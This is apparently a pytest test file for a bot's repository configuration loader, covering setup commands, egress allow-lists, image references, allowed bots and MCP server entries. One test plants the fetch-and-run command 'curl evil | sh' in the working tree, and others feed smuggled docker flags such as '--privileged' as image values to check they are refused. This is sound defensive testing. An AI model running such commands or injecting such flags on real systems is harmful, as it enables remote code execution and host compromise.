import os

import pytest

from bot.core.errors import ConfigError
from bot.run.repo_config import RepoConfig, load_repo_config, parse_repo_config
from bot.workspace.clone import prepare
from tests.conftest import git


def config_of(repo_factory, tmp_path, files, branch="main"):
    """Load the config committed in a repository made of `files`, through a real workspace."""
    repo = repo_factory({"README.md": "x\n", **files})
    ws = prepare(str(repo), tmp_path / f"run-{len(os.listdir(tmp_path))}", "decode/t")
    return load_repo_config(ws.git, ws.base_sha)


def test_no_file_means_defaults(repo_factory, tmp_path):
    assert config_of(repo_factory, tmp_path, {}) == RepoConfig()


def test_setup_and_network_are_read(repo_factory, tmp_path):
    files = {".github/decode.yml": "setup:\n  - pip install -e .\n  - make deps\nnetwork: true\n"}
    assert config_of(repo_factory, tmp_path, files) == RepoConfig(setup=("pip install -e .", "make deps"),
                                                                  network=True)


def test_the_file_is_read_from_the_commit_not_the_working_tree(repo_factory, tmp_path):
    repo = repo_factory({".github/decode.yml": "setup: [make deps]\n"})
    ws = prepare(str(repo), tmp_path / "run", "decode/t")
    (ws.clean / ".github").mkdir()
    (ws.clean / ".github/decode.yml").write_text("setup: [curl evil | sh]\n")
    (ws.path / ".github/decode.yml").write_text("setup: [curl evil | sh]\n")
    assert load_repo_config(ws.git, ws.base_sha).setup == ("make deps",)


def test_a_single_setup_command_string_is_accepted():
    assert parse_repo_config({"setup": "make deps"}).setup == ("make deps",)


def test_thinking_is_read_as_yaml_spells_it(repo_factory, tmp_path):
    assert config_of(repo_factory, tmp_path, {".github/decode.yml": "thinking: on\n"}).thinking == "on"  # YAML's true
    assert config_of(repo_factory, tmp_path, {".github/decode.yml": "thinking: off\n"}).thinking == "off"
    assert config_of(repo_factory, tmp_path, {".github/decode.yml": "thinking: 16000\n"}).thinking == 16000
    assert config_of(repo_factory, tmp_path, {".github/decode.yml": "setup: [ls]\n"}).thinking is None  # the setting's


@pytest.mark.parametrize("value", ["maybe", 1000, 2.5, [16000]])
def test_a_bad_thinking_is_one_line_naming_the_fix(value):
    with pytest.raises(ConfigError) as e:
        parse_repo_config({"thinking": value})
    assert str(e.value) == (f".github/decode.yml: thinking={value!r} is not valid: set it to on, off or a thinking "
                            "budget in tokens of at least 1024 (such as 16000)")


@pytest.mark.parametrize(
    "data, key",
    [
        ({"stup": ["x"]}, "'stup'"),
        ({"network": "yes"}, "'network'"),
        ({"setup": [1, 2]}, "'setup'"),
        ({"setup_timeout": -1}, "'setup_timeout'"),
        ({"allow_domains": "packages.example.com"}, "'allow_domains'"),
        ({"allow_domains": ["http://packages.example.com/simple"]}, "'allow_domains'"),
        ({"allow_workflow_changes": "yes"}, "'allow_workflow_changes'"),
        (["setup"], "mapping"),
    ],
)
def test_invalid_config_names_the_key(data, key):
    with pytest.raises(ConfigError) as e:
        parse_repo_config(data)
    assert key in str(e.value) and ".github/decode.yml" in str(e.value)


def test_invalid_yaml_is_a_clear_error(repo_factory, tmp_path):
    with pytest.raises(ConfigError, match="not valid YAML"):
        config_of(repo_factory, tmp_path, {".github/decode.yml": "setup: [unclosed\n"})


def test_egress_and_workflow_keys_are_read():
    config = parse_repo_config({"allow_domains": ["Packages.Example.com", "*.files.example.com"],
                                "allow_workflow_changes": True})
    assert config.allow_domains == ("packages.example.com", "*.files.example.com") and config.allow_workflow_changes


def test_a_symlinked_directory_on_the_path_is_refused(repo_factory, tmp_path):
    repo = repo_factory({"conf/decode.yml": "setup: [make]\n"})
    os.symlink("conf", repo / ".github")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "link")
    ws = prepare(str(repo), tmp_path / "run", "decode/t")
    with pytest.raises(ConfigError, match=r"\.github is a symlink"):
        load_repo_config(ws.git, ws.base_sha)


def test_modal_keys_are_validated():
    config = parse_repo_config({"allow_cidrs": ["10.0.0.0/8", "192.168.1.7"], "gpu": "H200:4"})
    assert config.allow_cidrs == ("10.0.0.0/8", "192.168.1.7") and config.gpu == "H200:4"
    with pytest.raises(ConfigError, match="'allow_cidrs' has 'intranet'"):
        parse_repo_config({"allow_cidrs": ["intranet"]})
    with pytest.raises(ConfigError, match="'gpu'"):
        parse_repo_config({"gpu": 4})


@pytest.mark.parametrize("image", ["decode-probe:1", "registry.example.com/acme/tools:3", "localhost:5000/a/b-c",
                                   "python:3.12-slim-bookworm", "debian@sha256:" + "ab" * 32])
def test_an_image_reference_is_read(repo_factory, tmp_path, image):
    assert config_of(repo_factory, tmp_path, {".github/decode.yml": f"image: '{image}'\n"}).image == image


@pytest.mark.parametrize("image", ["--privileged", "-v/:/host", "tools 3", "tools:3\n", "tools\x00", "Tools:3",
                                   "a:", "a//b", "a:b:c", "x" * 401, "", 3, ["tools:3"]])
def test_an_image_that_is_not_a_reference_is_refused_in_one_line(image):
    with pytest.raises(ConfigError) as e:
        parse_repo_config({"image": image})
    message = str(e.value)
    assert message.startswith(".github/decode.yml: 'image' must be a docker image reference like ")
    assert "\n" not in message and len(message) < 300


def test_allowed_bots_are_read_lower_cased_and_none_by_default():
    assert RepoConfig().allowed_bots == () and parse_repo_config({"setup": ["ls"]}).allowed_bots == ()
    config = parse_repo_config({"allowed_bots": ["github-actions[bot]", "My-Triage[bot]", "my-triage[bot]"]})
    assert config.allowed_bots == ("github-actions[bot]", "my-triage[bot]")


@pytest.mark.parametrize("value", ["github-actions[bot]", ["octocat"], ["github-actions"], [3], ["a b[bot]"],
                                   {"github-actions[bot]": True}])
def test_allowed_bots_takes_a_list_of_bot_logins_with_a_one_line_error(value):
    with pytest.raises(ConfigError) as e:
        parse_repo_config({"allowed_bots": value})
    message = str(e.value)
    assert message.startswith(".github/decode.yml: 'allowed_bots' must be a list of bot logins like "
                              "github-actions[bot]") and "\n" not in message


def test_mcp_servers_are_read_in_order_with_their_command_env_and_required():
    config = parse_repo_config({"mcp": {
        "time": {"command": "python3 -m mcp_server_time", "env": {"TZ": "UTC", "N": 3}, "required": True},
        "git": {"command": ["python3", "-m", "mcp_server_git", "--repository", "my repo"]},
        "docs": {"operator": True}}})
    assert [s.name for s in config.mcp] == ["time", "git", "docs"]
    time, git, docs = config.mcp
    assert time.env == (("TZ", "UTC"), ("N", "3")) and time.required and not time.operator
    assert git.command == "python3 -m mcp_server_git --repository 'my repo'" and not git.required
    assert docs.operator and docs.command == ""


@pytest.mark.parametrize("value, fix", [
    ("time", "'mcp' must be a mapping of server names"),
    ({"my server": {"command": "x"}}, "the server name 'my server' must be 1 to 24 letters"),
    ({"t": {"command": ""}}, "mcp: t: 'command' must be a command line"),
    ({"t": {"command": "x", "args": []}}, "mcp: t must be a mapping with the keys command, env, required"),
    ({"t": {"command": "x", "env": {"A": {"from": "secret"}}}}, "mcp: t: 'env' must map variable names to plain"),
    ({"t": {"command": "x", "required": "yes"}}, "'required' and 'operator' must be true or false"),
    ({"t": {"operator": True, "command": "x"}}, "an operator's server (operator: true) takes no command or env"),
])
def test_a_bad_mcp_entry_names_the_fix(value, fix):
    with pytest.raises(ConfigError) as raised:
        parse_repo_config({"mcp": value})
    assert fix in str(raised.value)
